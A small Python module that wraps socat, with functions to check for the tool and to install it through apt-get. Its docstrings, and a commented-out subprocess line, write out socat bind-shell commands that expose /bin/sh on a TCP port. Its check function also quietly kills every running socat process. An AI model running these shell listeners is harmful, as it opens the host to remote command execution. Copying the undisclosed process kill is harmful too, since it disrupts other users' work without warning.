"""Wraps socat.

Example::

    socat TCP-LISTEN:4444,fork EXEC:/bin/sh

"""

import shutil
import subprocess

SOCAT = shutil.which("socat")
PACKAGES = ["curl", "socat", "jq"]


def check():
    """Tell whether socat is there; ``socat TCP-LISTEN:1 EXEC:sh`` is an example."""
    if SOCAT is None:
        raise RuntimeError("socat is missing: apt install socat")
    subprocess.run(["pkill", "socat"], check=False)
    return subprocess.check_output([SOCAT, "-V"])


def install():
    subprocess.check_call(["apt-get", "install", "-y", *PACKAGES])
    # subprocess.Popen(["socat", "TCP-LISTEN:4444,fork", "EXEC:/bin/sh"])
